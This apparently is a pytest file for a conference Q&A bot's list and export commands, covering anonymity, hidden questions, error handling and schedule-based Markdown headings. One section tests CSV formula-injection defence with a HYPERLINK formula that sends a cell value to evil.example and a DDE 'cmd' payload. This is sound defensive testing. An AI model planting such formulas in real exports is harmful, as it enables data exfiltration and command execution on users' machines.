"""``chairbot qa list`` and ``chairbot qa export`` on real database files."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from bot.cli import cli
from bot.qa import QAService
from bot.qa.cli import qa_group

from .conftest import FakeClock

REPO_ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def run_qa() -> Callable[..., Result]:
    def _run(*args: str | Path) -> Result:
        return CliRunner().invoke(qa_group, [str(arg) for arg in args])

    return _run


@pytest.fixture
async def event_db(tmp_path: Path, clock: FakeClock) -> Path:
    """A database after a small event: two sessions, votes, an anonymous asker, a hidden and an answered question."""
    path = tmp_path / "event.db"
    async with QAService(path, clock=clock) as qa:
        scale = (await qa.ask("talk-1", "u1", "How does it scale?", author_name="Ada")).question
        secret = await qa.ask("talk-1", "u2", "Who funds this?", author_name="Secret Sam", anonymous=True)
        await qa.ask("talk-2", "u3", "Any benchmarks?", author_name="Cy")
        hidden = await qa.ask("talk-2", "u4", "Buy my crypto", author_name="Spammer")
        for voter in ("a", "b"):
            await qa.vote(secret.question.id, voter)
        await qa.vote(scale.id, "a")
        await qa.hide(hidden.question.id, "mod", "spam")
        await qa.pull_next("talk-2", "mod")
        await qa.pull_next("talk-2", "mod")  # Any benchmarks? is answered
    return path


def test_list_prints_the_queue_by_rank_with_anonymous_askers_hidden(
    run_qa: Callable[..., Result], event_db: Path
) -> None:
    result = run_qa("list", "--db", event_db, "--session", "talk-1")

    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0] == "Session talk-1 (Q&A open)"
    assert lines[2].split()[:6] == ["1", "2", "queued", "2", "anonymous", "Who"]
    assert lines[3].split()[:6] == ["2", "1", "queued", "1", "Ada", "How"]
    assert "Secret Sam" not in result.output


def test_list_leaves_out_finished_questions_unless_asked_for_all(run_qa: Callable[..., Result], event_db: Path) -> None:
    default = run_qa("list", "--db", event_db)
    everything = run_qa("list", "--db", event_db, "--all")

    assert "Any benchmarks?" not in default.output
    assert "Any benchmarks?" in everything.output
    assert "Buy my crypto" in everything.output


def test_export_csv_lists_questions_by_votes_without_anonymous_names(
    run_qa: Callable[..., Result], event_db: Path
) -> None:
    result = run_qa("export", "--db", event_db, "--format", "csv")

    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert [(r["session_id"], r["text"], r["votes"], r["status"], r["asker"]) for r in rows] == [
        ("talk-1", "Who funds this?", "2", "queued", "anonymous"),
        ("talk-1", "How does it scale?", "1", "queued", "Ada"),
        ("talk-2", "Any benchmarks?", "0", "answered", "Cy"),
    ]


def test_export_markdown_reads_well_for_a_speaker(run_qa: Callable[..., Result], event_db: Path) -> None:
    result = run_qa("export", "--db", event_db, "--format", "md", "--session", "talk-1")

    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[:5] == [
        "# Questions from the audience",
        "",
        "## Session talk-1",
        "",
        "1. Who funds this?  ",
    ]
    assert "   *2 votes · queued · asked by anonymous*" in result.output


def test_export_json_keeps_sessions_apart(run_qa: Callable[..., Result], event_db: Path) -> None:
    result = run_qa("export", "--db", event_db, "--format", "json")

    document = json.loads(result.output)
    assert [s["session_id"] for s in document["sessions"]] == ["talk-1", "talk-2"]
    assert document["sessions"][0]["questions"][0]["asker"] == "anonymous"


@pytest.mark.parametrize("fmt", ["csv", "md", "json"])
def test_no_export_format_leaks_an_anonymous_asker(run_qa: Callable[..., Result], event_db: Path, fmt: str) -> None:
    result = run_qa("export", "--db", event_db, "--format", fmt)

    assert result.exit_code == 0, result.output
    assert "Secret Sam" not in result.output
    assert "u2" not in result.output


def test_export_leaves_out_hidden_questions_unless_asked(run_qa: Callable[..., Result], event_db: Path) -> None:
    assert "Buy my crypto" not in run_qa("export", "--db", event_db).output
    assert "Buy my crypto" in run_qa("export", "--db", event_db, "--include-hidden").output


def test_export_writes_to_a_file(run_qa: Callable[..., Result], event_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "questions.md"

    result = run_qa("export", "--db", event_db, "--format", "md", "-o", out)

    assert result.exit_code == 0, result.output
    assert out.read_text(encoding="utf-8").startswith("# Questions from the audience")


def test_export_to_an_unwritable_place_exits_1_with_a_message(
    run_qa: Callable[..., Result], event_db: Path, tmp_path: Path
) -> None:
    out = tmp_path / "no-such-dir" / "questions.md"

    result = run_qa("export", "--db", event_db, "-o", out)

    assert result.exit_code == 1
    assert str(out) in result.output
    assert "Traceback" not in result.output


def test_a_missing_database_exits_1_naming_the_path_and_creates_nothing(
    run_qa: Callable[..., Result], tmp_path: Path
) -> None:
    missing = tmp_path / "missing.db"

    for command in ("list", "export"):
        result = run_qa(command, "--db", missing)

        assert result.exit_code == 1
        assert f"there is no Q&A database at {missing}" in result.output
        assert "Traceback" not in result.output
    assert list(tmp_path.iterdir()) == []


def test_a_corrupt_database_exits_1_naming_the_path(run_qa: Callable[..., Result], tmp_path: Path) -> None:
    corrupt = tmp_path / "corrupt.db"
    corrupt.write_bytes(os.urandom(4096))

    result = run_qa("list", "--db", corrupt)

    assert result.exit_code == 1
    assert str(corrupt) in result.output
    assert "Traceback" not in result.output


def test_a_sqlite_file_without_questions_exits_1(run_qa: Callable[..., Result], tmp_path: Path) -> None:
    other = tmp_path / "other.db"
    conn = sqlite3.connect(other)
    conn.execute("CREATE TABLE unrelated (x)")
    conn.close()

    result = run_qa("export", "--db", other)

    assert result.exit_code == 1
    assert "no chairbot Q&A data" in result.output


def test_reading_does_not_change_the_database(run_qa: Callable[..., Result], event_db: Path) -> None:
    before = event_db.read_bytes()

    run_qa("list", "--db", event_db, "--all")
    run_qa("export", "--db", event_db, "--format", "json")

    assert event_db.read_bytes() == before


async def test_list_reads_a_database_while_the_bot_has_it_open(
    run_qa: Callable[..., Result], tmp_path: Path, clock: FakeClock
) -> None:
    path = tmp_path / "live.db"
    async with QAService(path, clock=clock) as qa:
        await qa.ask("talk-1", "u1", "Asked during the talk?", author_name="Ada")

        result = run_qa("list", "--db", path)

    assert result.exit_code == 0, result.output
    assert "Asked during the talk?" in result.output


def test_a_missing_db_option_is_a_usage_error(run_qa: Callable[..., Result]) -> None:
    assert run_qa("list").exit_code == 2


def test_an_unknown_format_is_a_usage_error(run_qa: Callable[..., Result], event_db: Path) -> None:
    assert run_qa("export", "--db", event_db, "--format", "xlsx").exit_code == 2


def test_the_group_is_reachable_as_chairbot_qa(event_db: Path) -> None:
    if "qa" not in cli.commands:
        pytest.skip("the qa group is not registered in bot.cli yet")
    result = subprocess.run(
        [sys.executable, "-m", "bot", "qa", "list", "--db", str(event_db)],
        capture_output=True,
        text=True,
        cwd=REPO_ROOT,
        check=False,
    )

    assert result.returncode == 0, result.stderr
    assert "Session talk-1" in result.stdout


# --- CSV that a spreadsheet opens safely ------------------------------------------------------------------------

FORMULA_QUESTION = '=HYPERLINK("http://evil.example/?"&A1,"Is this safe?")'


@pytest.fixture
async def formula_db(tmp_path: Path, clock: FakeClock) -> Path:
    """A database where attendees typed spreadsheet formulas as questions and as their names."""
    path = tmp_path / "formulas.db"
    async with QAService(path, clock=clock) as qa:
        await qa.ask("talk-1", "u1", FORMULA_QUESTION, author_name="@SUM(1+1)")
        await qa.ask("talk-1", "u2", "-1 is wrong? Why not +1?", author_name="Bo")
        await qa.ask("talk-1", "u3", "Fine; =cmd|' /C calc'!A0", author_name="＝1+1")
    return path


def test_chairbot_qa_export_csv_shows_formulas_as_text(formula_db: Path) -> None:
    result = CliRunner().invoke(cli, ["qa", "export", "--db", str(formula_db), "--format", "csv"])

    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert [(r["text"], r["asker"]) for r in rows] == [
        ("'" + FORMULA_QUESTION, "'@SUM(1+1)"),
        ("'-1 is wrong? Why not +1?", "Bo"),
        ("Fine;' =cmd|' /C calc'!A0", "'＝1+1"),
    ]
    lines = result.stdout.splitlines()[1:]
    # The cells of a comma reading, then those a spreadsheet with a ";" list separator would start.
    cells = [cell for row in csv.reader(lines) for cell in row] + [p for line in lines for p in line.split(";")[1:]]
    for cell in cells:
        assert cell.lstrip(' "')[:1] not in ("=", "+", "-", "@", "＝", "\t", "\r"), cell


# --- Markdown headed from the schedule --------------------------------------------------------------------------

SCHEDULE_YAML = """\
event: {name: Test Workshop, timezone: Europe/Vienna, date: 2024-05-11}
sessions:
  - {id: talk-2, title: "Invited Talk 2", kind: talk, start: "09:00", end: "09:30",
     speakers: [{name: Andrew Wilson, affiliation: New York University}]}
  - {id: talk-1, title: "The *Scaling* Talk", kind: talk, start: "14:00", end: "14:30"}
"""


@pytest.fixture
def schedule_file(tmp_path: Path) -> Path:
    path = tmp_path / "day.yaml"
    path.write_text(SCHEDULE_YAML, encoding="utf-8")
    return path


def test_export_markdown_with_the_schedule_heads_sessions_by_title_speakers_and_time_in_start_order(
    run_qa: Callable[..., Result], event_db: Path, schedule_file: Path
) -> None:
    result = run_qa("export", "--db", event_db, "--format", "md", "--schedule", schedule_file)

    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert [line for line in lines if line.startswith("## ")] == [
        "## Invited Talk 2 — Andrew Wilson (New York University)",
        "## The \\*Scaling\\* Talk",
    ]
    first = lines.index("## Invited Talk 2 — Andrew Wilson (New York University)")
    assert lines[first + 2 : first + 5] == [
        "Saturday 11 May 2024, 09:00–09:30 Europe/Vienna",
        "",
        "1. Any benchmarks?  ",
    ]
    assert "Saturday 11 May 2024, 14:00–14:30 Europe/Vienna" in lines
    assert result.stderr == ""


def test_export_markdown_keeps_an_id_heading_for_a_session_missing_from_the_schedule(
    run_qa: Callable[..., Result], event_db: Path, tmp_path: Path
) -> None:
    only_talk_2 = tmp_path / "only-talk-2.yaml"
    only_talk_2.write_text(SCHEDULE_YAML.split("  - {id: talk-1")[0], encoding="utf-8")

    result = run_qa("export", "--db", event_db, "--format", "md", "--schedule", only_talk_2)

    assert result.exit_code == 0, result.output
    assert "## Session talk-1\n\nNot in the schedule.\n" in result.stdout
    assert result.stdout.index("## Invited Talk 2") < result.stdout.index("## Session talk-1")


def test_export_markdown_without_the_schedule_says_that_sessions_are_headed_by_id(
    run_qa: Callable[..., Result], event_db: Path
) -> None:
    result = run_qa("export", "--db", event_db, "--format", "md")

    assert result.exit_code == 0, result.output
    assert "## Session talk-1" in result.stdout
    assert "no --schedule given" in result.stderr
    assert "headed by their ids" in result.stderr


def test_export_says_the_schedule_is_ignored_for_csv(
    run_qa: Callable[..., Result], event_db: Path, schedule_file: Path
) -> None:
    result = run_qa("export", "--db", event_db, "--format", "csv", "--schedule", schedule_file)

    assert result.exit_code == 0, result.output
    assert len(list(csv.DictReader(io.StringIO(result.stdout)))) == 3
    assert "--schedule only applies to --format md" in result.stderr


def test_an_invalid_schedule_exits_1_naming_the_file_and_its_problem(
    run_qa: Callable[..., Result], event_db: Path, tmp_path: Path
) -> None:
    broken = tmp_path / "broken.yaml"
    broken.write_text(SCHEDULE_YAML.replace('end: "09:30"', 'end: "08:30"'), encoding="utf-8")

    result = run_qa("export", "--db", event_db, "--schedule", broken)

    assert result.exit_code == 1
    assert f"{broken}:" in result.output
    assert "end is not after start" in result.output
    assert "Traceback" not in result.output


def test_a_plain_text_schedule_is_a_usage_error_that_points_to_chairbot_import(
    run_qa: Callable[..., Result], event_db: Path
) -> None:
    proposal = REPO_ROOT / "tests" / "schedule" / "fixtures" / "iclr2024_proposal.txt"

    result = run_qa("export", "--db", event_db, "--schedule", proposal)

    assert result.exit_code == 2
    assert "chairbot import" in result.output
    assert "Traceback" not in result.output


def test_a_schedule_at_the_edge_of_the_calendar_exits_1_with_what_to_fix(
    run_qa: Callable[..., Result], event_db: Path, tmp_path: Path
) -> None:
    edge = tmp_path / "edge.yaml"
    edge.write_text(SCHEDULE_YAML.replace("2024-05-11", "9999-12-31").replace('"09:30"', '"24:00"'), encoding="utf-8")

    result = run_qa("export", "--db", event_db, "--schedule", edge)

    assert result.exit_code == 1, result.exception
    assert f"{edge}:1: event: date: 9999-12-31 is not a plausible date for a schedule" in result.output


NO_ZONE = REPO_ROOT / "tests" / "schedule" / "fixtures" / "frab_pentabarf_berlin_no_dates.xml"


def test_an_export_without_a_zone_is_read_with_venue_tz(run_qa: Callable[..., Result], event_db: Path) -> None:
    without = run_qa("export", "--db", event_db, "--schedule", NO_ZONE)
    assert without.exit_code == 1
    assert "--venue-tz Europe/Vienna" in without.output

    result = run_qa("export", "--db", event_db, "--schedule", NO_ZONE, "--venue-tz", "Europe/Berlin")

    assert result.exit_code == 0, result.output
    assert "## Session talk-1" in result.stdout
    assert "names its own zone" not in result.stderr


def test_venue_tz_of_an_export_is_spelled_and_checked_as_in_the_other_commands(
    run_qa: Callable[..., Result], event_db: Path, schedule_file: Path
) -> None:
    misspelt = run_qa("export", "--db", event_db, "--schedule", schedule_file, "--venue-tz", "Europe/Berln")
    assert misspelt.exit_code == 2
    assert "unknown time zone 'Europe/Berln'; did you mean 'Europe/Berlin'?" in misspelt.output

    named = run_qa("export", "--db", event_db, "--schedule", schedule_file, "--venue-tz", "Asia/Tokyo")
    assert named.exit_code == 0, named.output
    assert f"{schedule_file} names its own zone, Europe/Vienna; --venue-tz Asia/Tokyo ignored" in named.stderr
    assert "Saturday 11 May 2024, 09:00–09:30 Europe/Vienna" in named.stdout
